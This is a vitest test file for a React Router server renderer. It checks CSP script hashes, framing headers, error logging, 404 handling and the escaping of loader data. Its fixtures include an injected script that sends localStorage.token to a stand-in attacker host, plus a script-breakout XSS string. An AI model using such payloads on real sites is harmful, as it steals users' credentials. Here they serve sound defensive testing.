import { createElement, type FunctionComponent } from "react";
import {
  isRouteErrorResponse,
  type LinksFunction,
  Outlet,
  Scripts,
  type ServerBuild,
  UNSAFE_decodeViaTurboStream,
  UNSAFE_withComponentProps,
  UNSAFE_withErrorBoundaryProps,
  useRouteError,
} from "react-router";
import { expect, test } from "vitest";
import type { GuestApp } from "../../app-context.ts";
import * as entry from "../../entry.server.tsx";
import { AppError } from "../../kit/api/app-error.ts";
import * as siteLayout from "../../pages/site/site-layout.tsx";
import * as root from "../../root.tsx";
import { builtPages } from "./page-source.ts";
import { createPageRenderer, hashOf } from "./render-page.ts";

const injected = "fetch('//evil.example/' + localStorage.token)";
const own = "document.title = 'ours'";

/** Markup that React inserts unchanged. */
const raw = (__html: string) => ({ dangerouslySetInnerHTML: { __html } });

/** Like the real root: a script of the build, scripts inside a user's text, and the framework's own. */
function Root() {
  return createElement("html", null, [
    createElement("head", { key: "head" }, createElement("script", raw(own))),
    createElement("body", { key: "body" }, [
      createElement("div", { key: "text", ...raw(`<script>${injected}</script>`) }),
      createElement("div", { key: "marked", ...raw(`<script nonce="a">${injected}</script>`) }),
      createElement(Outlet, { key: "outlet" }),
      createElement(Scripts, { key: "scripts" }),
    ]),
  ]);
}

function Failed() {
  const error = useRouteError();
  return createElement("p", null, isRouteErrorResponse(error) ? JSON.stringify(error.data) : "unknown");
}

const links: LinksFunction = () => [];

function modulesOf(loader: () => unknown): Record<string, object> {
  return {
    root: { default: Root, ErrorBoundary: Failed, links },
    page: { default: () => createElement("p", null, "text"), loader },
  };
}

/** Nested routes of a page, from the root to the page, which is at `path`. */
function buildOf(modules: Record<string, object>, path: string | null): ServerBuild {
  const ids = Object.keys(modules);
  const routes = Object.fromEntries(
    ids.map((id, index) => {
      const isPage = index === ids.length - 1;
      const leaf = path === null ? { index: isPage } : isPage ? { path } : {};
      const place = index === 0 ? { path: "" } : { parentId: ids[index - 1], ...leaf };
      return [id, { id, ...place, module: modules[id] }];
    }),
  );
  const inManifest = (id: string) => ({
    ...routes[id],
    module: `/assets/${id}.js`,
    hasLoader: "loader" in (modules[id] ?? {}),
    imports: [],
  });
  return {
    entry: { module: entry },
    routes,
    assets: {
      version: "1",
      url: "/assets/manifest.js",
      entry: { module: "/assets/entry.js", imports: [] },
      routes: Object.fromEntries(ids.map((id) => [id, inManifest(id)])),
    },
    publicPath: "/",
    assetsBuildDirectory: "build/client",
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: "initial" },
  } as unknown as ServerBuild;
}

const renderOnce = (loader: () => unknown, address = "/") => render(modulesOf(loader), address);

function render(modules: Record<string, object>, address = "/", guestApp = {} as GuestApp, path: string | null = null) {
  const logged: object[] = [];
  const renderer = createPageRenderer({
    pages: builtPages(buildOf(modules, path)),
    guestApp,
    origin: "https://site.test",
    ownScripts: [own],
    logger: { error: (entry: object) => void logged.push(entry) } as never,
  });
  return { logged, page: renderer.render(address, "request-1234") };
}

test("the policy allows the scripts of the build and of the renderer, and none from a text", async () => {
  const page = await renderOnce(() => null).page;
  const html = page.body.toString();
  const policy = new Map(page.headers).get("content-security-policy") ?? "";
  expect(html).toContain(injected);
  expect(policy).toContain(hashOf(own));
  expect(policy).not.toContain(hashOf(injected));
  const inline = [...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)].map(
    ([, script = ""]) => script,
  );
  const known = inline.filter((script) => script !== injected);
  expect(known.length).toBeGreaterThan(3);
  for (const script of known) expect(policy).toContain(hashOf(script));
});

test("only a page that declares it may be framed, and only by pages of this site", async () => {
  const framing = async (handle: object, loader: () => unknown = () => null) => {
    const { root: whole, page } = modulesOf(loader);
    const { headers } = await render({ root: whole ?? {}, page: { ...page, handle } }).page;
    const names = new Map(headers);
    return [
      names.get("x-frame-options"),
      /frame-ancestors [^;]+/.exec(names.get("content-security-policy") ?? "")?.[0],
    ];
  };
  expect(await framing({})).toEqual(["DENY", "frame-ancestors 'none'"]);
  expect(await framing({ isFramedByOwn: true })).toEqual(["SAMEORIGIN", "frame-ancestors 'self'"]);
  const failing = () => {
    throw new AppError({ status: 404, code: "NOT_FOUND", message: "没有" });
  };
  expect(await framing({ isFramedByOwn: true }, failing)).toEqual(["DENY", "frame-ancestors 'none'"]);
});

test("a page has the same bytes each time, and no nonce leaves the server", async () => {
  const [first, second] = await Promise.all([renderOnce(() => null).page, renderOnce(() => null).page]);
  expect(first.body.equals(second.body)).toBe(true);
  expect(first.body.toString().replaceAll('nonce="a"', "")).not.toContain("nonce");
});

test("logs a failure once with its cause, under the number that the error screen shows", async () => {
  const cause = new Error("select secret from wallets");
  const { page, logged } = renderOnce(() => Promise.reject(cause));
  const { status, body, headers } = await page;
  expect(status).toBe(500);
  expect(logged).toEqual([{ err: cause, request_id: "request-1234", url: "/" }]);
  expect(body.toString()).toContain("request-1234");
  expect(body.toString()).not.toContain("wallets");
  expect(new Map(headers).get("x-request-id")).toBe("request-1234");
});

const thrown = new Error("a fault of the page");

function ThrowingPage(): never {
  throw thrown;
}

/** As the build does it: a route's components receive the properties of the route. */
const built = (module: { default: FunctionComponent<never>; ErrorBoundary: FunctionComponent<never> }) => ({
  ...module,
  default: UNSAFE_withComponentProps(module.default as FunctionComponent),
  ErrorBoundary: UNSAFE_withErrorBoundaryProps(module.ErrorBoundary as FunctionComponent),
});

const readSettings = async () => ({ name: "站", slogan: "", description: "站的介绍", announcements: [] });
const guestApp = { facts: {}, site: { readSettings } } as unknown as GuestApp;
const page = { default: () => createElement("p", null, "文章") };

// Covers spec §1.1, §1.4, §2.5.
test("every page is in Simplified Chinese and has the layout, the theme switch and the areas of messages and notifications", async () => {
  const modules = { root: built(root), layout: built(siteLayout), page };
  const { status, body } = await render(modules, "/articles", guestApp, "articles").page;
  const html = body.toString();
  expect(status).toBe(200);
  expect(html).toMatch(/<html lang="zh-CN"/);
  expect(html).toMatch(/<header [\s\S]*<button type="button" aria-label="深色主题"[\s\S]*<\/header>/);
  expect(html).toMatch(/<div role="status" /);
  expect(html).toMatch(/<section aria-label="通知" aria-live="polite" /);
  expect(html.indexOf("<p>文章</p>")).toBeGreaterThan(html.indexOf("</header>"));
  expect(html.indexOf("<footer")).toBeGreaterThan(html.indexOf("<p>文章</p>"));
});

// Covers spec §2.1.
test.each([
  ["/system", '"/system"'],
  ["/articles", null],
])("the scroll position of %s is remembered by %s", async (address, key) => {
  const { body } = await render({ root: built(root), page }, address, guestApp, address.slice(1)).page;
  const [, restored] = /\("react-router-scroll-positions", ("[^"]*"|null)\)/.exec(body.toString()) ?? [];
  expect(restored).toBe(key ?? "null");
});

// Covers spec §2.6.
test.each([
  ["inside the site's layout", { root: built(root), layout: built(siteLayout) }],
  ["without the layout", { root: built(root) }],
])(
  "a page %s that throws while the server renders it answers 500 with the head of the error screen",
  async (_place, around) => {
    const meta = () => [{ title: "标题在此" }, { name: "description", content: "页面自己的介绍" }];
    const { page, logged } = render({ ...around, page: { default: ThrowingPage, meta } }, "/", guestApp);
    const { status, body, headers } = await page;
    const html = body.toString();
    expect([status, logged]).toEqual([500, [{ err: thrown, request_id: "request-1234", url: "/" }]]);
    expect(html).toContain("<title>页面未找到 - 404</title>");
    expect(html).toMatch(/<meta name="description" content="抱歉，你访问的页面不存在"\/?>/);
    expect(html).toMatch(/<meta name="robots" content="noindex"\/?>/);
    expect(html).toContain("抱歉，你访问的页面不存在或已被移动");
    expect(html.match(/<title>|name="description"/g)).toHaveLength(2);
    expect(html).not.toContain("a fault of the page");
    expect(new Map(headers).get("cache-control")).toBe("no-store");
  },
);

test("an address that no route matches is a missing page, and not logged as a failure", async () => {
  for (const address of ["/%0d%0a", "/a%0ab", "/missing"]) {
    const { page, logged } = renderOnce(() => null, address);
    const { status, headers } = await page;
    expect([address, status, logged]).toEqual([address, 404, []]);
    expect(new Map(headers).has("x-request-id")).toBe(false);
  }
});

test("database failures are thrown, so that the caller can answer that they are temporary", async () => {
  const away = new AppError({ status: 503, code: "SERVICE_UNAVAILABLE", message: "稍后" });
  const { page, logged } = renderOnce(() => Promise.reject(away));
  await expect(page).rejects.toBe(away);
  expect(logged).toEqual([]);
});

test("a loader's data reaches the browser unchanged and cannot end its script element", async () => {
  const text = "</script><script>alert(1)</script><!-- & \u2028 知行";
  const html = (await renderOnce(() => ({ text })).page).body.toString();
  expect(html).not.toContain("alert(1)</script>");
  const [, literal = ""] = /streamController\.enqueue\((".*")\);/.exec(html) ?? [];
  const { value } = await UNSAFE_decodeViaTurboStream(
    new Blob([JSON.parse(literal)]).stream(),
    globalThis as unknown as Window,
  );
  expect(value).toMatchObject({ loaderData: { page: { text } } });
});

test("data for client navigation is the framework's own, with our headers", async () => {
  const { page } = renderOnce(() => ({ text: "t" }), "/_.data");
  const { body, headers } = await page;
  const { value } = await UNSAFE_decodeViaTurboStream(
    new Blob([new Uint8Array(body)]).stream(),
    globalThis as unknown as Window,
  );
  expect(value).toEqual({ page: { data: { text: "t" } } });
  expect(Object.fromEntries(headers)).toMatchObject({ "content-type": "text/x-script", "x-frame-options": "DENY" });
});
